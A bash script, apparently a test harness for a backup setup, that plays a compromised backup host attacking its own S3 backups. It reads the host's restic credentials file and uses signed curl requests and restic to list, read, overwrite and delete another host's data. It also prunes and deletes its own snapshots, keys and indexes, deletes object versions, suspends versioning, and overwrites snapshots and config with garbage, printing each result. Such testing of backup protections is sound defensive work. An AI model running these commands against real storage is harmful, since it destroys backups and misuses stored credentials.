#!/usr/bin/env bash
# Root on a backup host turns against the backups, with what root there has: the host's own
# S3 keys and repository password (/etc/prodready-backup/restic.env), curl (signing requests
# itself, SigV4) and restic. Prints one line per attempt: "<what> <HTTP status or restic exit>".
#   attack.sh probe OTHER_PREFIX VERSION_KEY VERSION_ID   try the other host and history (read only for ours)
#   attack.sh wipe                                         forget+prune every own snapshot, delete objects, overwrite
set -uo pipefail
set -a; . "${ATTACK_ENV:-/etc/prodready-backup/restic.env}"; set +a
# RESTIC_REPOSITORY=s3:http://HOST:PORT/BUCKET/PREFIX
location=${RESTIC_REPOSITORY#s3:}
endpoint=$(sed -E 's#^(https?://[^/]+)/.*#\1#' <<<"$location")
path=${location#"$endpoint"/}
bucket=${path%%/*}
own=${path#*/}
# The keys go to curl in a root-only config file, not on its command line.
curl_config=$(mktemp); trap 'rm -f "$curl_config" "$curl_config.body"' EXIT
printf 'user = "%s:%s"\n' "$AWS_ACCESS_KEY_ID" "$AWS_SECRET_ACCESS_KEY" > "$curl_config"
restic_cmd=(timeout 120 restic -o s3.bucket-lookup=path -o s3.region="${AWS_DEFAULT_REGION:-us-east-1}")

s3() {  # METHOD PATH_AND_QUERY [DATA]: prints the HTTP status and S3's error code (AccessDenied, ...)
  local method=$1 target=$2 body status
  local args=(-s -o "$curl_config.body" -w '%{http_code}' -X "$method" --aws-sigv4 "aws:amz:${AWS_DEFAULT_REGION:-us-east-1}:s3"
              --config "$curl_config")
  if [ $# -ge 3 ]; then
    # S3 wants the payload's hash in a signed header; curl signs the header it is given.
    args+=(--data-binary "$3" -H 'Content-Type: application/octet-stream'
           -H "x-amz-content-sha256: $(printf '%s' "$3" | sha256sum | cut -d' ' -f1)")
  else
    args+=(-H "x-amz-content-sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")
  fi
  status=$(curl "${args[@]}" "$endpoint/$bucket/$target")
  body=$(sed -nE 's#.*<Code>([A-Za-z]+)</Code>.*#\1#p' "$curl_config.body" 2>/dev/null | head -n1)
  rm -f "$curl_config.body"
  echo "$status${body:+ $body}"
}

# Query values are signed URL-encoded (SigV4): '/' in a prefix must travel as %2F.
enc() { printf '%s\n' "${1//\//%2F}"; }

case "${1:-}" in
  probe)
    other=$2 version_key=$3 version_id=$4
    echo "list-other $(s3 GET "?list-type=2&prefix=$(enc "$other/")")"
    echo "list-bucket $(s3 GET "?list-type=2")"
    echo "get-other $(s3 GET "$other/config")"
    echo "put-other $(s3 PUT "$other/config" garbage)"
    echo "delete-other $(s3 DELETE "$other/config")"
    echo "list-own $(s3 GET "?list-type=2&prefix=$(enc "$own/")")"
    echo "get-own $(s3 GET "$own/config")"
    echo "list-own-versions $(s3 GET "?prefix=$(enc "$own/")&versions=")"
    snapshot=$("${restic_cmd[@]}" list snapshots --no-lock 2>/dev/null | head -n1)
    echo "delete-own-snapshot $(s3 DELETE "$own/snapshots/$snapshot")"
    echo "delete-own-version $(s3 DELETE "$version_key?versionId=$version_id")"
    echo "suspend-versioning $(s3 PUT "?versioning=" '<VersioningConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Status>Suspended</Status></VersioningConfiguration>')"
    ;;
  wipe)
    mapfile -t snapshots < <("${restic_cmd[@]}" list snapshots --no-lock 2>/dev/null)
    "${restic_cmd[@]}" forget --prune "${snapshots[@]}" >/dev/null 2>&1; echo "restic-forget-prune $?"
    for kind in snapshots keys index; do
      for name in $("${restic_cmd[@]}" list "$kind" --no-lock 2>/dev/null); do
        echo "delete-$kind $(s3 DELETE "$own/$kind/$name")"
      done
    done
    # What a delete cannot do, an overwrite tries: every snapshot and the config become garbage.
    for name in "${snapshots[@]}"; do
      echo "overwrite-snapshot $(s3 PUT "$own/snapshots/$name" garbage)"
    done
    echo "overwrite-config $(s3 PUT "$own/config" garbage)"
    ;;
  *) echo "usage: $0 probe OTHER_PREFIX VERSION_KEY VERSION_ID | wipe" >&2; exit 2 ;;
esac
